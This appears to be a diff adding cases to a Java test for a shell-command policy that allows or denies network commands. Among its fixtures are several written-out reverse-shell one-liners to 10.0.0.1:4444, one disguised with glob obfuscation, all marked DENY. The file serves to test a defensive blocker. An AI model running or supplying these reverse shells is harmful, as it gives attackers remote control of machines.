@@ -65,6 +65,8 @@ class DefaultPolicyTest {
         bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 => DENY
         /???/b??h -i >& /dev/tcp/10.0.0.1/4444 0>&1 => DENY
         /???/b??h -c 'echo hi' => ALLOW
+        exec 3<>/dev/tcp/localhost/8080; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 => ALLOW
+        exec 3<>/dev/tcp/10.0.0.1/4444; sh <&3 >&3 2>&3 => DENY
         nc -zv example.com 443 => ALLOW
         """)
     void decide_network_judgesSourcesAndSinks(String command, Verdict want) {
